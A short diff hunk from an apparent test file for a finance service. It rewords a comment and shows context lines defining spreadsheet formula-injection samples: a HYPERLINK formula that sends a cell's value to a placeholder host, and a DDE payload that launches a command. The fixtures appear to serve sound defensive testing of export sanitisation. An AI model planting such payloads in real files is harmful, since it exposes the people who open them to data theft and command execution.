@@ -5,7 +5,7 @@ import { specExample } from '../support/qimen-push';
 import { startTestService, TestService } from '../support/test-service';
 import { FINANCE_CONFIG, TOKENS } from './finance-fixture';
 
-/** Text a spreadsheet would run as a formula: INTERFACE.md's prefixes =, +, -, @, tab and carriage return. */
+/** Text a spreadsheet would run as a formula: the HTTP contract's prefixes =, +, -, @, tab and carriage return. */
 const HOSTILE = {
   '=': '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
   '+': '+1+cmd|\' /C calc\'!A0',
